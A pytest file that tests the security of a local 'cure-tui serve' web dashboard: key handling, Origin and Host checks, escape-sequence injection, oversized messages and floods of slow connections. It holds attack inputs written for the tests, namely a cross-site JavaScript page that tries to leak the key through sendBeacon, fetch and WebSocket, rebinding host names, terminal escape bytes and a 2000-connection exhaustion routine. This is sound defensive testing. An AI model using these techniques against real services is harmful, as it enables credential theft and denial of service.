"""`cure-tui serve` seen by strangers: who gets in, where the key goes, what many or slow connections can do."""

from __future__ import annotations

import asyncio
import contextlib
import resource
import shutil
import signal
import socket
import time
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from urllib.parse import urlsplit

import aiohttp
import psutil
import pytest
from aiohttp import WSMsgType, web

from cure_tui.web.server import MOST_BYTES, MOST_PAGES, TOO_MANY_PAGES, WRONG_KEY
from engine.servers.connections import MOST_WAITING, SECONDS_TO_WAIT
from tests.cure_tui.command_line import Cli
from tests.cure_tui.web.chromium import Page, browser_page
from tests.cure_tui.web.served import SECONDS, OpenPage, Served, start, until

_CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome") or ""
_in_a_browser = pytest.mark.skipif(not _CHROMIUM, reason="chromium is not installed")
_HANDSHAKE = {
    "Connection": "Upgrade",
    "Upgrade": "websocket",
    "Sec-WebSocket-Version": "13",
    "Sec-WebSocket-Key": "AAAAAAAAAAAAAAAAAAAAAA==",
}
# A page of another server that tries whatever a page can to make the browser use or tell the key.
_STRANGE_PAGE = """<!DOCTYPE html><title>waiting</title><body><script>
const tell = (what) => navigator.sendBeacon("/told", what);
const home = "%s";
tell(JSON.stringify([document.referrer, document.cookie, { ...sessionStorage }, { ...localStorage }]));
for (const tag of ["img", "iframe", "script"]) {
  const element = document.createElement(tag);
  element.src = home + "/";
  document.body.append(element);
}
fetch(home + "/", { credentials: "include" }).then((answer) => answer.text()).then(tell, () => {});
const other = window.open(home + "/");
const socket = new WebSocket(home.replace("http", "ws") + "/ws");
socket.onmessage = (event) => tell("a frame");
socket.onopen = () => tell("a web socket");
socket.onclose = () => {
  try { tell(JSON.stringify(other.sessionStorage)); } catch (refused) {}
  document.title = "refused";
};
</script>"""


@contextlib.asynccontextmanager
async def other_server() -> AsyncIterator[tuple[str, list[str], dict[str, str]]]:
    """Serve a page on another port. Yields its address, the list of all it is sent, and the page by its path."""
    collected: list[str] = []
    pages: dict[str, str] = {}

    async def collect(request: web.Request) -> web.Response:
        collected.append(f"{request.method} {request.path_qs} {dict(request.headers)} {await request.text()}")
        return web.Response(text=pages.get(request.path, ""), content_type="text/html")

    app = web.Application()
    app.router.add_route("*", "/{path:.*}", collect)
    runner = web.AppRunner(app)
    await runner.setup()
    with socket.create_server(("127.0.0.1", 0)) as listening:
        await web.SockSite(runner, listening).start()
        try:
            yield f"http://127.0.0.1:{listening.getsockname()[1]}", collected, pages
        finally:
            await runner.cleanup()


async def closing_code(web_socket: aiohttp.ClientWebSocketResponse) -> int | None:
    """Return the code with which the server closes the web socket; a frame of a dashboard would be a failure."""
    message = await web_socket.receive(SECONDS)
    assert message.type is WSMsgType.CLOSE
    return web_socket.close_code


async def answer_seconds(page: OpenPage) -> float:
    """Return how long a page's ping takes."""
    started = time.monotonic()
    await page.connection.send_json(["ping", "1"])
    while (await page.receive()).data != '["pong", "1"]':
        pass
    return time.monotonic() - started


@contextlib.contextmanager
def many_files() -> Iterator[None]:
    """Let this process open as many files as the system lets it."""
    before = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (before[1], before[1]))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, before)


def handshake(served: Served, *headers: str) -> bytes:
    """Return the request for a web socket, as a page of this server sends it."""
    own = {"Host": served.netloc, "Origin": f"http://{served.netloc}", **_HANDSHAKE}
    lines = ["GET /ws HTTP/1.1", *(f"{name}: {value}" for name, value in own.items()), *headers, "", ""]
    return "\r\n".join(lines).encode()


def end(served: Served) -> str:
    """End the server; return all that it said, after its address."""
    served.process.terminate()
    return "".join(served.process.communicate(timeout=SECONDS))


def test_what_needs_no_key_holds_none_and_is_guarded_by_headers(served: Served) -> None:
    for path in ("/", "/page.js", "/static/js/textual.js"):
        status, text, headers = served.get(path)
        assert (status, served.key in text, headers["Set-Cookie"]) == (200, False, None)
        assert headers["Referrer-Policy"] == "no-referrer"
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]
        assert "script-src" not in headers["Content-Security-Policy"]  # scripts as all else: from here, none inline
    status, _, headers = served.get("/download/1")
    assert (status, headers["Referrer-Policy"]) == (404, "no-referrer")


async def test_a_web_socket_without_the_key_is_closed_and_starts_nothing(served: Served) -> None:
    for first in ("", "\u00e9", served.key[:-1], f'["stdin", "{served.key}"]', served.key.encode()):
        async with served.web_socket() as web_socket:
            await (web_socket.send_bytes(first) if isinstance(first, bytes) else web_socket.send_str(first))
            assert await closing_code(web_socket) == WRONG_KEY
    assert served.dashboards() == []


async def test_the_key_in_an_address_a_cookie_or_a_header_opens_nothing(served: Served) -> None:
    places = [{"Cookie": f"cure-tui-{served.port}={served.key}; key={served.key}"}, {"Authorization": served.key}]
    for headers in places:
        async with served.web_socket(f"key={served.key}", **headers) as web_socket:
            await web_socket.send_json(["stdin", "q"])
            assert await closing_code(web_socket) == WRONG_KEY
    assert served.dashboards() == []


def test_a_web_socket_of_another_sites_page_or_without_origin_is_refused(served: Served) -> None:
    for origin in ("https://example.org", "http://127.0.0.1:1", f"http://localhost:{served.port}", "null", "http://["):
        status, text, _ = served.get("/ws", Origin=origin, **_HANDSHAKE)
        assert (status, text) == (403, f"a page from {origin} may not use this dashboard")
    status, text, _ = served.get("/ws", **_HANDSHAKE)
    assert (status, text) == (403, "a web socket without Origin may not use this dashboard")


def test_a_name_that_another_site_has_pointed_here_is_refused(served: Served) -> None:
    for host in ("example.org", f"evil.localhost.example:{served.port}", "", "127.0.0.1.example.org", "[::1", "a:b"):
        status, text, _ = served.get("/", Host=host)
        assert (status, text) == (
            403,
            f"{host!r} is no name of this server: open the address that `cure-tui serve` printed",
        )
    for host in (
        f"localhost:{served.port}",
        "LOCALHOST",
        "127.0.0.1:9000",
        "[::1]:9000",
        "10.0.0.1",
    ):  # forwarded ports
        assert served.get("/", Host=host)[0] == 200


def test_a_server_for_other_machines_is_asked_by_this_machines_name(cli: Cli) -> None:
    process = start(cli, "--host", "0.0.0.0")
    assert process.stdout is not None
    served = Served(process, process.stdout.readline().strip().replace(socket.gethostname(), "127.0.0.1"))
    assert served.get("/", Host=socket.gethostname())[0] == 200
    assert served.get("/", Host="example.org")[0] == 403
    end(served)


async def test_the_key_is_in_no_log_process_list_environment_or_file(served: Served, cli: Cli, tmp_path: Path) -> None:
    async with served.page():
        for process in [psutil.Process(served.process.pid), *served.dashboards()]:
            assert served.key not in f"{process.cmdline()} {process.environ()}"
    assert served.key not in end(served)
    assert served.key.encode() not in b"".join(file.read_bytes() for file in tmp_path.rglob("*") if file.is_file())


async def test_a_server_and_its_dashboards_leave_no_core_dump(served: Served, cli: Cli) -> None:
    before = set(cli.folder.rglob("*core*"))
    async with served.page():
        for process in (psutil.Process(served.process.pid), *served.dashboards()):
            assert max(process.rlimit(psutil.RLIMIT_CORE)) <= 1
        served.process.send_signal(signal.SIGABRT)
        assert served.process.wait(SECONDS) == -signal.SIGABRT
    assert set(cli.folder.rglob("*core*")) == before


def test_what_strangers_send_is_not_written_on_the_terminal(served: Served) -> None:
    requests = [
        b"\x1b]0;owned\x07\r\n\r\n",
        b"GET /\x1b[31m HTTP/1.1\r\nHost: \x1b[31m\r\n\r\n",
        b"\x16\x03\x01" * 99,
        handshake(served, "Sec-WebSocket-Protocol: \x1b[31m"),
        handshake(served, "Sec-WebSocket-Protocol: owned") + b"\xff" * 99,
    ]
    for request in requests:
        with socket.create_connection((served.host, served.port), timeout=SECONDS) as connection:
            connection.sendall(request)
            connection.recv(1000)
    assert end(served) == "Open this address in a browser. Ctrl-C ends the dashboard, never a run.\n"


@pytest.mark.slow
async def test_a_malformed_or_oversized_message_closes_its_page_alone(served: Served) -> None:
    for text in ("{", "[" * 100_000, "[]", '["stdin"]', '["resize", {"width": []}]', "1" * 5000, "x" * MOST_BYTES):
        async with served.web_socket() as web_socket:
            await web_socket.send_str(served.key)
            await web_socket.send_str(text)
            while not web_socket.closed:
                await web_socket.receive(SECONDS)
            assert web_socket.close_code in (1008, 1009)
    await until(lambda: not served.dashboards())
    assert "Traceback" not in end(served)


async def test_a_size_beyond_every_screen_is_cut_down(served: Served) -> None:
    async with served.web_socket("width=999999999&height=-5") as web_socket:
        await web_socket.send_str(served.key)
        await until(lambda: any("ROWS" in each.environ() for each in served.dashboards()))  # it has called exec
        (dashboard,) = served.dashboards()
        assert (dashboard.environ()["COLUMNS"], dashboard.environ()["ROWS"]) == ("1000", "1")


@pytest.mark.slow
async def test_a_hundred_pages_are_bounded_and_the_first_still_answers(served: Served) -> None:
    async with served.page() as first, contextlib.AsyncExitStack() as stack:
        codes: list[int | None] = []

        async def open_page() -> None:
            web_socket = await stack.enter_async_context(served.web_socket())
            await web_socket.send_str(served.key)
            async for _ in web_socket:
                pass
            codes.append(web_socket.close_code)

        async with asyncio.TaskGroup() as pages:
            opened = [pages.create_task(open_page()) for _ in range(99)]
            await asyncio.sleep(1)
            assert len(served.dashboards()) <= MOST_PAGES
            assert await answer_seconds(first) < 5
            await until(lambda: len(codes) == 100 - MOST_PAGES)
            await until(lambda: len(served.dashboards()) == MOST_PAGES)
            for page in opened:
                page.cancel()
        assert codes == [TOO_MANY_PAGES] * (100 - MOST_PAGES)
    await until(lambda: not served.dashboards())


@pytest.mark.slow
async def test_two_thousand_half_open_connections_are_bounded_end_by_themselves_and_keep_nobody_out(
    served: Served,
) -> None:
    """Silent ones, requests that never end, answers that nobody reads, and web sockets that send no key."""
    silent = b""
    slow = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-"
    unread = b"GET /static/js/textual.js HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" * 3
    keyless = handshake(served)
    server = psutil.Process(served.process.pid)
    with many_files(), contextlib.ExitStack() as stack:
        async with served.page() as first:
            before = server.memory_info().rss

            def connect(number: int) -> None:
                connection = stack.enter_context(socket.create_connection((served.host, served.port), timeout=SECONDS))
                with contextlib.suppress(ConnectionError):
                    connection.sendall((silent, slow, unread, keyless)[number % 4])

            for number in range(2000):
                await asyncio.to_thread(connect, number)
            assert await answer_seconds(first) < 5
            async with served.page():
                assert len(served.dashboards()) == 2
            await asyncio.sleep(1)
            assert len(open_connections(server)) <= MOST_WAITING + 2
            assert server.memory_info().rss - before < 100e6
            started = time.monotonic()
            await until(lambda: len(open_connections(server)) == 1)
            assert time.monotonic() - started < SECONDS_TO_WAIT + 5
            assert await answer_seconds(first) < 5
    assert end(served) == "Open this address in a browser. Ctrl-C ends the dashboard, never a run.\n"


def open_connections(server: psutil.Process) -> list[object]:
    return [connection for connection in server.net_connections() if connection.status == psutil.CONN_ESTABLISHED]


async def state(page: Page) -> str:
    """Return all that other pages, sites and users of the browser could see of this tab."""
    seen = await page.evaluate("location.href + document.cookie + document.referrer + JSON.stringify(localStorage)")
    cookies = await page.do("Network.getAllCookies")
    return f"{seen} {cookies} {await page.do('Page.getNavigationHistory')} {page.requested}"


@pytest.mark.slow
@_in_a_browser
async def test_a_browser_takes_the_key_from_the_address_and_tells_it_to_nobody_but_the_web_socket(
    served: Served,
) -> None:
    async with other_server() as (elsewhere, collected, pages), browser_page(_CHROMIUM) as page:
        pages["/"] = _STRANGE_PAGE % f"http://{served.netloc}"
        await page.do("Page.navigate", url=served.address)
        await page.wait_for("nano")
        assert await page.evaluate("location.href") == f"http://{served.netloc}/"
        assert served.key not in await state(page)
        await page.evaluate(f"location.href = {elsewhere!r}")
        await until_true(page, "document.title === 'refused'")
        assert served.key not in await state(page)
        told = "".join(collected)
        assert served.key not in told
        assert "Cookie" not in told
        assert "Referer': 'http://" + served.netloc not in told
        assert "a web socket" not in told
        assert any("POST /told" in request for request in collected)
    await until(lambda: not served.dashboards())


async def until_true(page: Page, expression: str) -> None:
    """Wait until the expression is true of the page, which may still be loading: then it cannot be evaluated."""
    async with asyncio.timeout(SECONDS):
        while True:
            with contextlib.suppress(AssertionError):
                if await page.evaluate(expression) is True:
                    return
            await asyncio.sleep(0.05)


@pytest.mark.slow
@_in_a_browser
async def test_a_tab_loaded_anew_a_pasted_address_and_a_typed_key_open_the_dashboard(served: Served) -> None:
    async with browser_page(_CHROMIUM) as page:
        await page.do("Page.navigate", url=served.address)
        await page.wait_for("nano")
        for again in ("location.reload()", "history.pushState(0, 0, '/#'); location.reload()"):
            page.received = ""
            await page.evaluate(again)
            await page.wait_for("nano")
        second = await page.do("Target.createTarget", url=served.address)
        await until(lambda: len(served.dashboards()) == 2)
        await page.do("Target.closeTarget", **second)
        await page.evaluate("sessionStorage.setItem('cure-tui key', 'of a server that has ended'); location.reload()")
        await until_true(page, "document.querySelector('#locked')?.checkVisibility() === true")
        page.received = ""
        await page.evaluate(f"location.href = {served.address!r}")  # a change of the fragment loads no page
        await page.wait_for("nano")
        await page.evaluate("sessionStorage.clear(); location.reload()")
        await until_true(page, "document.querySelector('#locked')?.checkVisibility() === true")
        page.received = ""
        await page.evaluate("document.getElementById('key').focus()")
        await page.do("Input.insertText", text=served.address)
        await page.press("Enter", "\r")
        await page.wait_for("nano")
        assert served.key not in await state(page)
        assert urlsplit(await page.evaluate("location.href")).fragment == ""
